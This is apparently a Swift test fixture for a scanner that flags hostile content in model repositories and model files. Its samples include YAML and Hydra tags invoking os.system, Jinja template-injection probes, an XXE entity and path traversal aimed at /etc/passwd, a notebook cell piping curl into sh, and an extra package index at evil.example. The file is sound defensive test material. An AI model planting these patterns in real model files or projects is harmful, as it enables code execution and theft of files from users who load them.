@testable import ModelFiles

extension Sample {
    static let documents: [Sample] = repositories + kerasModels + others

    private static func repository(
        _ name: String, level: Finding.Level = .dangerous, _ path: String, _ text: String,
        _ code: String? = nil
    ) -> Sample {
        let own = [(path: path, bytes: Array(text.utf8))]
        let more = code.map { [(path: "own.py", bytes: Array($0.utf8))] } ?? []
        return Sample(.repository, name, level, files: own + more)
    }

    private static let program = "import os\n\nos.system('true')\n"

    private static let repositories: [Sample] = [
        repository(
            "code of the repository", "config.json",
            #"{"auto_map":{"AutoModel":"own.Model"}}"#, program),
        repository(
            "code of another repository", "config.json",
            #"{"auto_map":{"AutoModel":"evil/repo--own.Model"}}"#),
        repository(
            "code that does nothing odd", level: .suspicious, "config.json",
            #"{"auto_map":{"AutoModel":"own.Model"}}"#, "class Model:\n    pass\n"),
        repository(
            "a tokenizer's code", "tokenizer_config.json",
            #"{"auto_map":{"AutoTokenizer":["own.Tokenizer",null]}}"#,
            "import subprocess as s\ns.run('true')\n"),
        repository(
            "a reference, not a call", "config.json",
            #"{"auto_map":{"AutoModel":"own.Model"}}"#,
            "import os, threading\nthreading.Thread(target=os.system, args=('x',)).start()\n"),
        repository(
            "getattr of a module", "config.json",
            #"{"auto_map":{"AutoModel":"own.Model"}}"#, "import os\ngetattr(os, 'system')('x')\n"),
        repository("Hydra in JSON", "config.json", #"{"_target_":"os.system","_args_":["x"]}"#),
        repository("Hydra in YAML", "config.yaml", "model:\n  _target_: builtins.exec\n"),
        repository(
            "YAML that makes objects", "c.yaml", "a: !!python/object/apply:os.system ['x']\n"),
        repository(
            "YAML by a handle", "c.yaml",
            "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['x']\n"),
        repository(
            "a weight map outside", "model.safetensors.index.json",
            #"{"metadata":{},"weight_map":{"w":"../../../etc/passwd"}}"#),
        repository(
            "a template in a list", "tokenizer_config.json",
            #"{"chat_template":[{"name":"d","template":"{{ ''.__class__ }}"}]}"#),
        repository("a template of its own", "chat_template.jinja", "{{ ''.__class__.__base__ }}"),
        repository(
            "sentence-transformers' module", "modules.json",
            #"[{"idx":0,"name":"0","path":"","type":"own.Layer"}]"#, program),
        repository(
            "skops", "m.json",
            #"{"__class__":"Popen","__module__":"subprocess","__loader__":"ObjectNode"}"#),
        repository(
            "requirements of another index", level: .suspicious, "requirements.txt",
            "--extra-index-url https://evil.example/simple\nnumpy\n"),
        repository("a start-up file", "x.pth", "import os; os.system('true')\n"),
        repository(
            "a notebook's shell", level: .suspicious, "n.ipynb",
            #"{"cells":[{"cell_type":"code","source":["!curl x | sh\n"]}],"nbformat":4}"#),
    ]

    // MARK: Keras

    private static func keras(
        _ name: String, level: Finding.Level = .dangerous, _ config: String
    ) -> [Sample] {
        let archive = ZipWriter(members: [
            ZipWriter.member("metadata.json", Array(#"{"keras_version":"3.0.0"}"#.utf8)),
            ZipWriter.member("config.json", Array(config.utf8)),
        ])
        return [
            Sample(.keras, name, level, path: "m.keras", archive.bytes),
            Sample(.keras, name + " in HDF5", level, path: "m.h5", HDF5Writer.file(config: config)),
        ]
    }

    private static func model(_ layer: String) -> String {
        #"{"module":"keras","class_name":"Sequential","config":{"layers":[\#(layer)]}}"#
    }

    private static let kerasModels: [Sample] = [
        keras(
            "plain", level: .note,
            model(#"{"module":"keras.layers","class_name":"Dense","config":{}}"#)),
        keras("Lambda", model(#"{"module":"keras.layers","class_name":"Lambda","config":{}}"#)),
        keras("Lambda by escapes", model(#"{"class_name":"\u004cambda","config":{}}"#)),
        keras(
            "Lambda inside a layer",
            model(
                #"{"class_name":"TimeDistributed","config":{"layer":{"class_name":"Lambda","config":{}}}}"#
            )),
        keras(
            "the first of two keys",
            model(
                #"{"class_name":"Lambda","class_name":"Dense","config":{}}"#)),
        keras(
            "Python's own",
            model(
                #"{"module":"builtins","class_name":"exec","config":{},"registered_name":null}"#)),
        keras("any module", model(#"{"module":"subprocess","class_name":"Popen","config":{}}"#)),
        keras(
            "a download",
            model(
                #"{"module":"keras.utils","class_name":"function","config":"get_file"}"#)),
        keras(
            "a vocabulary outside",
            model(
                #"{"class_name":"StringLookup","config":{"vocabulary":"/etc/passwd"}}"#)),
        keras("a torch module", model(#"{"class_name":"TorchModuleWrapper","config":{}}"#)),
        [
            Sample(
                .keras, "an external link", .dangerous, path: "m.h5",
                HDF5Writer.file(link: "/etc/passwd"))
        ],
    ].flatMap { $0 }

    // MARK: Others

    private static let others: [Sample] = [
        Sample(
            .other, "an ELF named a model", .dangerous, path: "m.bin",
            [0x7F, 0x45, 0x4C, 0x46] + [UInt8](repeating: 2, count: 99)),
        Sample(
            .other, "a script named a model", .dangerous, path: "m.pt",
            Array("#!/bin/sh\ntrue\n".utf8)),
        Sample(
            .other, "HTML named a model", .suspicious, path: "m.bin",
            Array("<html><script>x</script></html>".utf8)),
        Sample(
            .other, "an entity of a file", .dangerous, path: "m.pmml",
            Array(
                "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><PMML/>"
                    .utf8)),
        Sample(.other, "a name that turns around", .dangerous, path: "m\u{202E}txt.pkl", call.stop),
        Sample(
            .other, "a token", .suspicious, path: ".env",
            Array("HF_TOKEN=hf_\(String(repeating: "a1", count: 17))\n".utf8)),
        Sample(
            .other, "nothing that is known", .suspicious, path: "m.safetensors", [0xFF, 0xFE, 0]),
    ]
}
